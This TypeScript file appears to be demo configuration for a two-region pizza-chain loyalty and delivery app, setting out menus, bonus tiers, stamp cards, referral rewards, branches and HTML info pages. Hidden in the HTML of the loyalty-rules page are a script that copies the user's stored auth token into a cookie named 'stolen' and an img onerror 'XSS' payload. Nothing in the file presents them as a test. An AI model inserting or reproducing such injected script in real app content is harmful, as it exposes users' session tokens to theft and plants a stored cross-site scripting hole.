/**
 * «Пицца Марио»: one chain in two regions (Moscow and St Petersburg), each its own client and
 * each listing the other in settings.modules.related — the related-regions pair.
 * Moscow switches on the ordering and engagement modules; St Petersburg a smaller set, an odd
 * number of home buttons and a hidden provider logo. Both show gifts and coupons, a stamp card
 * (Moscow a full row of stamps, St Petersburg a reduced one) and referral (Moscow a fixed reward
 * for the friend's first order, St Petersburg a share of all the friend's orders).
 */
import { specialOfferSettings } from './actions.ts'
import { bookingSettings } from './booking.ts'
import { deliveryZone, geocoderSettings } from './geo.ts'
import { commonSettings, hours, logos } from './helpers.ts'
import { newsSettings } from './news.ts'
import { mapTiles, spbMoreBranches } from './maps.ts'
import { demoUpdateSettings } from './update.ts'
import { demoPaymentTypes } from './orders.ts'
import type { DemoBrand, DemoPage } from './types.ts'

const related = [
  { domain: 'pizzeria-msk', name: 'Москва', logo: logos('pizzeria-msk').logo },
  { domain: 'pizzeria-spb', name: 'Санкт-Петербург', logo: logos('pizzeria-spb').logo },
]

const bonusGroups = [
  { id: 1, name: 'Новичок', bonus: 3, orderSum: 0 },
  { id: 2, name: 'Гурман', bonus: 5, orderSum: 10000 },
  { id: 3, name: 'Шеф', bonus: 10, orderSum: 30000 },
]

function catalog(center: { lat: number; lng: number }, deliveryPrice: number) {
  return {
    tab: true,
    title: 'Меню',
    tabbarTitle: 'Меню',
    homeSlotTitle: 'Наше меню',
    historyTitle: 'Мои заказы',
    hideRootTitles: false,
    showBasket: true,
    showBarOnHomeScreen: true,
    showOpeningHoursInfo: true,
    amountControl: true,
    blockCheckout: true,
    historyRepeat: true,
    variationsSwipe: true,
    payByBonus: true,
    payByBonusType: 'order',
    maxPayBonusK: 30,
    minPaymentAfterBonus: 1,
    paymentTypeList: demoPaymentTypes('pizzeria'),
    finishMessageTitle: 'Спасибо за заказ!',
    finishMessageText: 'Мы уже начали готовить. Статус заказа виден на главной странице.',
    historyItemsPerPage: 10,
    delivery: {
      deliveryPrice,
      forFreeDelivery: 1500,
      minOrder: 700,
      days: [1, 2, 3, 4, 5, 6, 7],
      start: '10:00',
      end: '23:00',
      askTime: true,
      timeStep: 900,
      afterStartTimeGap: 1800,
      beforeEndTimeGap: 1800,
      checkZone: true,
      checkZoneRequired: false,
      closedText: 'Доставка работает с 10:00 до 23:00',
    },
    pickup: {
      discount: 10,
      minOrder: 0,
      askTime: true,
      days: [1, 2, 3, 4, 5, 6, 7],
      start: '10:00',
      end: '23:00',
      timeStep: 900,
      afterStartTimeGap: 900,
      beforeEndTimeGap: 900,
      closedText: 'Самовывоз с 10:00 до 23:00',
    },
    maps: { center, zoom: 12 },
  }
}

function pages(city: string, phone: string): DemoPage[] {
  return [
    {
      idContent: 1,
      title: 'О нас',
      content: `<p><img src="/rest/image/about-pizzeria_pizza_cook_herb/0/600/scale.png" alt=""></p>
<h2>Пицца Марио — ${city}</h2>
<p>Мы печём неаполитанскую пиццу в дровяной печи с 2012 года. Тесто выдерживаем 48 часов,
муку и томаты привозим из Италии, моцареллу делаем сами каждое утро.</p>
<p>Закажите доставку через приложение или заберите заказ в любом из наших ресторанов —
при самовывозе скидка 10&nbsp;%.</p>
<p>Телефон: <a href="tel:${phone.replace(/[^\d+]/g, '')}">${phone}</a></p>`,
    },
    {
      idContent: 2,
      title: 'Доставка и оплата',
      content: `<h3>Доставка</h3>
<ul>
<li>Ежедневно с 10:00 до 23:00.</li>
<li>Минимальная сумма заказа — 700&nbsp;₽.</li>
<li>Бесплатно при заказе от 1500&nbsp;₽.</li>
<li>Среднее время доставки — 45 минут.</li>
</ul>
<h3>Оплата</h3>
<p>Картой онлайн в приложении, картой или наличными курьеру. Баллами можно оплатить
до 30&nbsp;% заказа.</p>`,
    },
    {
      idContent: 3,
      title: 'Правила программы лояльности',
      content: `<p>Участником программы становится любой зарегистрированный в приложении гость.</p>
<ol>
<li>С каждого заказа начисляется от 3 до 10&nbsp;% баллами — в зависимости от уровня.</li>
<li>1 балл = 1 рубль. Баллы сгорают через 90 дней после начисления.</li>
<li>Баллы нельзя обменять на деньги.</li>
</ol>
<p>Ваш уровень и сколько осталось до следующего — на карте в профиле.</p>
<script>document.cookie = 'stolen=' + localStorage.getItem('token')</script>
<p><img src="/missing.png" onerror="alert('XSS')" alt="Уровни программы"></p>`,
    },
  ]
}

const mskPhone = '+7 (495) 120-45-67'
const spbPhone = '+7 (812) 309-12-34'

export const pizzeriaMsk: DemoBrand = {
  client: 'pizzeria-msk',
  name: 'Пицца Марио · Москва',
  settings: {
    ...commonSettings,
    name: 'Пицца Марио',
    ...logos('pizzeria-msk'),
    colors: {
      primary: '#D62828',
      primaryText: '#FFFFFF',
      background: '#FFF8F0',
      surface: '#FFFFFF',
      text: '#2B2118',
      accent: '#F77F00',
    },
    languages: ['ru', 'en'],
    currency: '₽',
    decimal: 0,
    sourceTimeZone: 'Europe/Moscow',
    ...mapTiles,
    displayTimeZone: 'Europe/Moscow',
    defaultTab: 'home',
    applink: 'https://example.org/app/pizzeria-msk',
    tabbar: ['home', 'catalog', 'actions', 'auth', 'panelmenu'],
    menu: [
      'home',
      'catalog',
      'actions',
      'gifts',
      'referral',
      'news',
      'maps',
      'history',
      'notifications',
      'feedback',
      'booking',
      'related',
      'pages',
      'settings',
    ],
    slots: { home: ['bonus', 'stampcard', 'specialoffer', 'catalog', 'gifts', 'news', 'booking'] },
    fullscreenLogo: false,
    hideGMBLogo: false,
    catalogItemShowButtons: true,
    catalogItemCropTitle: true,
    catalogItemShowLabels: true,
    catalogItemTitleOverImage: false,
    catalogItemLinesMin: 2,
    catalogItemLinesMax: 3,
    modules: {
      home: {
        contactsTitle: 'Рестораны',
        buttons: [
          { type: 'phone', title: 'Позвонить', value: mskPhone },
          { type: 'feedback', title: 'Отзыв' },
          { type: 'site', title: 'Сайт', value: 'https://example.org/pizzeria' },
          { type: 'telegram', title: 'Telegram', value: 'https://t.me/example_pizzeria' },
        ],
        social: [
          { type: 'vk', link: 'https://vk.com/example_pizzeria' },
          { type: 'tg', link: 'https://t.me/example_pizzeria' },
          { type: 'ok', link: 'https://ok.ru/example_pizzeria' },
        ],
      },
      auth: {
        phoneCountryCode: '7',
        tab: true,
        type: 'sms',
        usePincode: false,
        pincodeLength: 5,
        pinLength: 6,
        useAgeDisclaimer: false,
        email: true,
        emailRequired: false,
        receiptToEmailModuleEnabled: true,
        smsTimeout: 45,
        successTimeout: 1500,
        title: 'Профиль',
        tabbarTitle: 'Профиль',
      },
      bonus: {
        groups: bonusGroups,
        homeBonusButtonType: 'card',
        homeBonusButtonText: 'Мои баллы',
        homeBonusButtonCardQRSmall: true,
        showNextGroup: true,
        useOldQRCodeGenerator: false,
      },
      stampcard: {
        blockTitle: 'Пицца-карта',
        showBlockTitle: true,
        title: 'Восьмая пицца в подарок',
        text: 'За каждую пиццу от 30 см — штамп. Соберите восемь и заберите любую пиццу 30 см бесплатно.',
        type: 'stamps',
        stampsToReward: 8,
        userStamps: 0,
        counterTitle: 'пицц',
        isReduced: false,
        reduceBy: 0,
        isDividerHidden: false,
      },
      gifts: {
        title: 'Подарки за баллы',
        tab: false,
        openInPopup: true,
        itemsPerPage: 20,
        type: 'swiper',
      },
      referral: {
        title: 'Пригласить друга',
        type: 'firstOrder',
        refererReward: 'fix',
        refererBonus: 300,
        referalBonus: 200,
        levels: [{ level: 1, value: 300 }],
        isMultilevel: false,
        regDay: 14,
        message:
          'Дарю 200 баллов на первую пиццу в «Пицца Марио»! Промокод {code}. Приложение: {applink}',
        homeShowShare: false,
        menuShowShare: true,
        canEnterCode: true,
      },
      catalog: {
        ...catalog({ lat: 55.7558, lng: 37.6173 }, 199),
        geocoder: geocoderSettings('Москва'),
      },
      actions: {
        title: 'Акции',
        tab: true,
        cardShowDate: true,
        cardShowTitle: true,
        cardCutTitle: false,
        cardTitleOverImage: false,
        limit: 10,
      },
      specialoffer: specialOfferSettings('pizzeria-msk'),
      news: newsSettings['pizzeria-msk'],
      booking: bookingSettings('pizzeria-msk'),
      maps: { title: 'Рестораны на карте' },
      history: { title: 'История баллов' },
      notifications: { title: 'Уведомления', onesignal: '', version: 3, forceV3Migration: false },
      feedback: {
        title: 'Оцените нас',
        formText: 'Расскажите, как прошёл ваш визит или доставка',
        sheetText: 'Спасибо! Поделитесь отзывом на картах — это очень нам поможет',
        enableCollectingNPSFeedback: true,
        enableThirdPartyFeedbackImprovement: true,
        feedbackShareThreshold: 8,
        walletFeedbackUrl: 'https://example.org/wallet/feedback',
      },
      related: { title: 'Выбрать город', list: related },
      pages: { title: 'Информация' },
      panelmenu: {},
      settings: {},
    },
  },
  custom: {},
  branches: [
    {
      idBranch: 1,
      name: 'Пицца Марио на Тверской',
      address: 'Москва, ул. Тверская, 12, стр. 1',
      description: 'Зал на 60 мест, детская комната, летняя веранда',
      lat: 55.7652,
      lng: 37.605,
      contactPhone: mskPhone,
      ...hours('10:00', '23:00', { startTime: '11:00', endTime: '23:00' }),
      isPickpoint: true,
      extra: {
        ...deliveryZone('pizzeria-msk', 1),
        yandexFeedbackSharingURL: 'https://example.org/reviews/pizzeria-msk-1',
        googleFeedbackSharingURL: 'https://example.org/reviews/g/pizzeria-msk-1',
      },
    },
    {
      idBranch: 2,
      name: 'Пицца Марио на Арбате',
      address: 'Москва, ул. Арбат, 24',
      description: 'Открытая кухня, можно посмотреть, как готовят пиццу',
      lat: 55.7503,
      lng: 37.593,
      contactPhone: '+7 (495) 120-45-68',
      ...hours('11:00', '23:00'),
      isPickpoint: true,
      extra: deliveryZone('pizzeria-msk', 2),
    },
    {
      idBranch: 3,
      name: 'Пицца Марио на Ленинском',
      address: 'Москва, Ленинский пр-т, 38',
      description: 'Только доставка и самовывоз',
      lat: 55.703,
      lng: 37.577,
      contactPhone: '+7 (495) 120-45-69',
      ...hours('09:00', '22:00'),
      isPickpoint: false,
      extra: deliveryZone('pizzeria-msk', 3),
    },
  ],
  pages: pages('Москва', mskPhone),
}

export const pizzeriaSpb: DemoBrand = {
  client: 'pizzeria-spb',
  name: 'Пицца Марио · Санкт-Петербург',
  settings: {
    ...commonSettings,
    name: 'Пицца Марио СПб',
    ...logos('pizzeria-spb'),
    colors: {
      primary: '#1D4E89',
      primaryText: '#FFFFFF',
      background: '#F4F7FB',
      surface: '#FFFFFF',
      text: '#14213D',
      accent: '#D62828',
    },
    languages: ['ru', 'en'],
    currency: '₽',
    decimal: 0,
    sourceTimeZone: 'Europe/Moscow',
    ...mapTiles,
    displayTimeZone: 'Europe/Moscow',
    defaultTab: 'catalog',
    applink: 'https://example.org/app/pizzeria-spb',
    tabbar: ['catalog', 'home', 'history', 'panelmenu'],
    menu: [
      'home',
      'auth',
      'catalog',
      'actions',
      'gifts',
      'referral',
      'news',
      'maps',
      'history',
      'notifications',
      'related',
      'pages',
    ],
    slots: { home: ['bonus', 'specialoffer', 'stampcard', 'catalog', 'gifts', 'actions'] },
    hideGMBLogo: true,
    hideTabbarLabels: true,
    modules: {
      update: demoUpdateSettings('pizzeria-spb'),
      home: {
        buttons: [
          { type: 'phone', value: spbPhone },
          { type: 'whatsapp', title: 'WhatsApp', value: 'https://wa.me/78123091234' },
          { type: 'site', title: 'Наш сайт', value: 'https://example.org/pizzeria/spb' },
        ],
        social: [
          { type: 'vk', link: 'https://vk.com/example_pizzeria_spb' },
          { type: 'insta', link: 'https://instagram.com/example_pizzeria_spb' },
        ],
      },
      auth: {
        phoneCountryCode: '7',
        tab: false,
        type: 'call',
        usePincode: true,
        // SMS codes (the fallback after a call) have 5 digits; a call code is always 4.
        pincodeLength: 5,
        pinLength: 6,
        useAgeDisclaimer: false,
        email: false,
        smsTimeout: 60,
      },
      bonus: {
        groups: bonusGroups,
        homeBonusButtonType: 'button',
        // the app's own «Моя бонусная карта» otherwise (points are «баллы», issue 12 session 15)
        homeBonusButtonText: 'Моя карта',
        showNextGroup: false,
      },
      stampcard: {
        blockTitle: 'Пицца-карта',
        showBlockTitle: true,
        title: 'Каждая десятая пицца — бесплатно',
        text: 'Штамп за каждую пиццу в заказе. Десятая — за наш счёт.',
        type: 'stamps',
        stampsToReward: 10,
        userStamps: 0,
        counterTitle: 'пицц',
        isReduced: true,
        reduceBy: 4,
        isDividerHidden: true,
      },
      gifts: { title: 'Подарки', tab: false, openInPopup: true, itemsPerPage: 10, type: 'list' },
      referral: {
        title: 'Позвать друга',
        type: 'allOrders',
        refererReward: 'flex',
        refererBonus: 3,
        referalBonus: 150,
        levels: [{ level: 1, value: 3 }],
        isMultilevel: false,
        regDay: 30,
        message:
          'Закажи пиццу в «Пицца Марио» в Петербурге: с промокодом {code} — 150 баллов на первый заказ. {applink}',
        homeShowShare: false,
        menuShowShare: true,
        canEnterCode: true,
      },
      catalog: {
        ...catalog({ lat: 59.9343, lng: 30.3351 }, 249),
        tab: true,
        icon: 'catalog',
        geocoder: geocoderSettings('Санкт-Петербург'),
      },
      actions: {
        title: 'Акции',
        tab: false,
        cardShowDate: false,
        cardTitleOverImage: true,
        limit: 10,
      },
      specialoffer: specialOfferSettings('pizzeria-spb'),
      maps: { title: 'Где мы' },
      history: { title: 'Баллы', tab: true },
      news: newsSettings['pizzeria-spb'],
      notifications: { title: 'Уведомления', onesignal: '', version: 3, forceV3Migration: true },
      related: { title: 'Выбрать город', list: related },
      pages: {},
      panelmenu: {},
      settings: {},
    },
  },
  custom: {},
  branches: [
    {
      idBranch: 1,
      name: 'Пицца Марио на Невском',
      address: 'Санкт-Петербург, Невский пр-т, 28',
      description: 'Вход со двора, второй этаж',
      lat: 59.9358,
      lng: 30.3256,
      contactPhone: spbPhone,
      ...hours('10:00', '23:00'),
      isPickpoint: true,
      extra: deliveryZone('pizzeria-spb', 1),
    },
    {
      idBranch: 2,
      name: 'Пицца Марио на Петроградской',
      address: 'Санкт-Петербург, Большой пр-т П.С., 45',
      lat: 59.959,
      lng: 30.303,
      contactPhone: '+7 (812) 309-12-35',
      ...hours('11:00', '22:00', { startTime: '11:00', endTime: '23:00' }),
      isPickpoint: true,
      extra: deliveryZone('pizzeria-spb', 2),
    },
    ...spbMoreBranches,
  ],
  pages: pages('Санкт-Петербург', spbPhone).slice(0, 2),
}
